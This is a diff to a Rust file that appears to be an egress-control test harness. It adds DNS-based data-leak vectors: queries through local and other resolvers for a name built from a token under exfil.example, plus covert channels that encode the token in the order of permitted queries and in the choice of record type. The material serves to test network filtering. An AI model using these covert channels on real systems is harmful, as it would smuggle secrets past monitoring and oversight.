@@ -2,11 +2,11 @@
 
 use std::{
     io::{Read, Write},
-    net::{IpAddr, SocketAddr, TcpStream, ToSocketAddrs, UdpSocket},
+    net::{IpAddr, SocketAddr, SocketAddrV4, TcpStream, ToSocketAddrs, UdpSocket},
     time::Duration,
 };
 
-use super::{Attempt, Evidence, Job, Vector, sys};
+use super::{Attempt, Evidence, Job, KINDS, KINDS_DIGITS, ORDER, Stop, Vector, accomplice, sys};
 use crate::{hello::build::Hello, process::patient, zone};
 
 const PATIENCE: Duration = Duration::from_secs(2);
@@ -248,6 +248,54 @@ pub(super) const VECTORS: &[Vector] = &[
         },
     )
     .controlled(),
+    Vector::new("dns-stub", "the host's stub resolver, UDP", |job| {
+        through(job, accomplice::STUB, false)
+    })
+    .controlled(),
+    Vector::new("dns-stub-tcp", "the host's stub resolver, TCP", |job| {
+        through(job, accomplice::STUB, true)
+    })
+    .controlled(),
+    Vector::new(
+        "dns-resolver",
+        "somebody else's resolver on a port of its own, UDP",
+        |job| through(job, accomplice::RESOLVER, false),
+    )
+    .controlled(),
+    Vector::new("dns-resolver-tcp", "the same, TCP", |job| {
+        through(job, accomplice::RESOLVER, true)
+    })
+    .controlled(),
+    Vector::new(
+        "dns-order",
+        "permitted names whose order spells the token",
+        |job| {
+            let digits: Vec<char> = job.token.chars().skip(TOKEN_PREFIX).collect();
+            spell(
+                job,
+                digits.iter().map(|digit| (format!("{digit}.{ORDER}"), 1)),
+            )
+        },
+    )
+    .proven_by(Evidence::Order)
+    .controlled(),
+    Vector::new(
+        "dns-kinds",
+        "questions for addresses of both kinds of one permitted name, whose order spells the token",
+        |job| {
+            let digits = job.token.chars().skip(TOKEN_PREFIX).take(KINDS_DIGITS);
+            let bits = digits.flat_map(|digit| {
+                let value = digit.to_digit(16).unwrap_or(0);
+                (0..4).rev().map(move |bit| value >> bit & 1)
+            });
+            spell(
+                job,
+                bits.map(|bit| (KINDS.to_owned(), if bit == 1 { 28 } else { 1 })),
+            )
+        },
+    )
+    .proven_by(Evidence::Order)
+    .controlled(),
     Vector::new(
         "rebind-loopback",
         "a declared name that answers 127.0.0.1, to a relay",
@@ -292,6 +340,49 @@ pub(super) const VECTORS: &[Vector] = &[
     .proven_by(Evidence::Anywhere)
     .limit("a destination is an address: what is said to it is not read"),
 ];
+
+/// Letters of a token in front of its digits.
+const TOKEN_PREFIX: usize = 4;
+
+/// Asks for names, one after the other. In the control run the token then goes to the declared
+/// address.
+fn spell(job: &Job, questions: impl Iterator<Item = (String, u16)>) -> Attempt {
+    let socket = UdpSocket::bind("0.0.0.0:0")?;
+    socket.set_read_timeout(Some(patient(PATIENCE)))?;
+    for (name, kind) in questions {
+        socket.send_to(&question(&name, kind), (zone::DNS, DNS))?;
+        socket.recv(&mut [0; 512])?;
+    }
+    if job.is_control() {
+        socket.send_to(job.bytes(), job.permitted)?;
+    }
+    Ok(())
+}
+
+/// Asks a resolver on this host. In the control run it is asked for a declared name by the library,
+/// and the token goes where that leads.
+fn through(job: &Job, resolver: SocketAddrV4, stream: bool) -> Attempt {
+    if job.is_control() {
+        let found = ("allowed.example", job.permitted.port()).to_socket_addrs()?;
+        let to = found.into_iter().find(SocketAddr::is_ipv4);
+        let to = to.ok_or_else(|| Stop::set_up("allowed.example has no address"))?;
+        UdpSocket::bind("0.0.0.0:0")?.send_to(job.bytes(), to)?;
+        return Ok(());
+    }
+    let message = question(&name(job), 1);
+    if !stream {
+        let socket = UdpSocket::bind("0.0.0.0:0")?;
+        socket.set_read_timeout(Some(Duration::from_millis(500)))?;
+        socket.send_to(&message, resolver)?;
+        drop(socket.recv(&mut [0; 512]));
+        return Ok(());
+    }
+    let mut stream = TcpStream::connect_timeout(&resolver.into(), patient(PATIENCE))?;
+    stream.write_all(&prefixed(&message))?;
+    stream.set_read_timeout(Some(Duration::from_millis(500)))?;
+    drop(stream.read(&mut [0; 512]));
+    Ok(())
+}
 
 fn name(job: &Job) -> String {
     format!("{}.exfil.example", job.token)
